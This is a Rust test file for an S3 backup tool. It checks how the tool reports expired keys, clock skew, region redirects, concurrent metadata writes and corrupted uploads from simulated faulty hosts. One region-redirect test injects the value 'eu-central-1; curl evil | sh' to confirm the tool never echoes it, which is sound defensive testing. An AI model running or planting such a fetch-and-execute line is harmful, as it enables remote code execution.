//! What an S3 host can answer, or another program can have written to it.

use super::*;

/// Answers the beginning of every write so.
fn answering(status: u16, code: &'static str) -> Outcome {
    let host = Faulty::start(move |request, _| match request.call() {
        "put" | "begin" => Some(Fault::Answer(status, code)),
        "get" => Some(Fault::Answer(403, "AccessDenied")),
        _ => None,
    });
    let outcome = backup(&small()).at(&host.endpoint, "bucket", "key", "topsecret-of-the-store").expect(1);
    assert_eq!((host.objects().len(), host.open_uploads()), (0, 0), "{code}");
    outcome
}

#[test]
fn a_wrong_clock_an_expired_key_and_another_region_are_told_with_what_to_set() {
    answering(403, "RequestTimeTooSkewed").says("hint: this machine's clock and the host's differ");
    answering(400, "ExpiredToken").says("hint: check S3_ACCESS_KEY_ID");
    answering(301, "PermanentRedirect").says("hint: the bucket is in another region: set S3_REGION");
}

/// Whoever is not known may do nothing, which is not the same as a right that is missing: the first answer that says why ends the run, and
/// a HEAD, which has none, says nothing.
#[test]
fn who_is_not_known_to_the_store_is_told_why_before_anything_is_dumped() {
    for (status, code) in [
        (400, "ExpiredToken"),
        (403, "ExpiredToken"),
        (403, "InvalidAccessKeyId"),
        (403, "SignatureDoesNotMatch"),
        (403, "RequestTimeTooSkewed"),
        (403, "InvalidToken"),
        (400, "TokenRefreshRequired"),
        (403, "InvalidClientTokenId"),
        (403, "RequestExpired"),
    ] {
        let host = Faulty::start(move |request, _| match request.call() {
            "head" => Some(Fault::Answer(status, "")),
            _ => Some(Fault::Answer(status, code)),
        });
        let outcome = backup(&small()).at(&host.endpoint, "bucket", "key", "topsecret-of-the-store").expect(1);
        let outcome = outcome.says(code).says("hint: ");
        assert!(!outcome.err.contains("https") && !outcome.err.contains("does not allow listing"), "{outcome:#?}");
        assert!(!host.seen().iter().any(|request| request.method == "PUT" || request.method == "POST"), "{code}");
    }
}

#[test]
fn the_region_that_a_host_names_is_told_where_it_is_one_and_another_than_the_set_one() {
    const GENERAL: &str = "hint: the bucket is in another region: set S3_REGION to it";
    for (status, code) in [(301, "PermanentRedirect"), (400, "AuthorizationHeaderMalformed")] {
        for (region, told) in [
            ("eu-central-1", "hint: the bucket is in another region: set S3_REGION=eu-central-1\n"),
            ("us-west-2", GENERAL),
            ("eu-central-1; curl evil | sh", GENERAL),
            ("a-name-of-more-than-thirty-two-letters", GENERAL),
            ("", GENERAL),
        ] {
            let host = Faulty::start(move |_, _| Some(Fault::Elsewhere(status, code, region)));
            let run = backup(&small()).at(&host.endpoint, "bucket", "key", "topsecret-of-the-store");
            let outcome = run.set("S3_REGION", "us-west-2").set("S3_ATTEMPTS", "1").expect(1);
            assert!(!outcome.err.contains("evil"), "{outcome:#?}");
            outcome.says(&format!("answered {status} {code}: as planned")).says(told);
        }
    }
}

/// Two servers may have databases of one name, and dump them in one second.
#[test]
fn a_meta_that_another_program_wrote_meanwhile_is_neither_overwritten_nor_taken_back() {
    let host = Faulty::start(|request, _| match request.call() {
        "put" if !request.path.ends_with(".meta") => None,
        "put" => Some(Fault::DoneByAnother),
        "get" if request.path.trim_end_matches('/') == "/bucket" => Some(Fault::Answer(403, "AccessDenied")),
        _ => None,
    });
    let run = backup(&small()).at(&host.endpoint, "bucket", "key", "topsecret-of-the-store").set("S3_ATTEMPTS", "1");
    run.expect(1);
    let removed: Vec<String> =
        host.seen().into_iter().filter(|seen| seen.call() == "delete").map(|seen| seen.path).collect();
    assert!(removed.len() == 1 && removed[0].ends_with(".enc"), "{removed:?} instead of the payload alone");
    assert!(host.objects().iter().any(|object| object == b"another"));
}

/// Whether one is there that cannot be seen, nobody knows: then its payload must not go.
#[test]
fn a_meta_that_can_neither_be_written_nor_removed_keeps_its_payload_and_that_is_said() {
    let host = Faulty::start(|request, _| match request.call() {
        "put" if request.path.ends_with(".meta") => Some(Fault::Answer(403, "AccessDenied")),
        "delete" => Some(Fault::Answer(403, "AccessDenied")),
        _ => None,
    });
    let outcome = backup(&small()).at(&host.endpoint, "bucket", "key", "topsecret-of-the-store").expect(1);
    outcome.says("error: write the .meta of ").says(".meta\" could not be removed, and so its payload stays: cannot ");
    let keys = host.keys();
    assert!(keys.len() == 1 && keys[0].ends_with(".enc"), "{keys:?}");
}

#[test]
fn a_host_that_keeps_other_bytes_than_it_was_sent_makes_no_backup() {
    let host = Faulty::start(|request, _| match request.call() {
        "put" => Some(Fault::Spoils),
        "get" if request.path.trim_end_matches('/') == "/bucket" => Some(Fault::Answer(403, "AccessDenied")),
        _ => None,
    });
    let outcome = backup(&small()).at(&host.endpoint, "bucket", "key", "topsecret-of-the-store").expect(1);
    outcome.says("the store gives back other bytes of \"").says("than were sent");
    assert!(!host.seen().iter().any(|request| request.path.ends_with(".meta")));
}
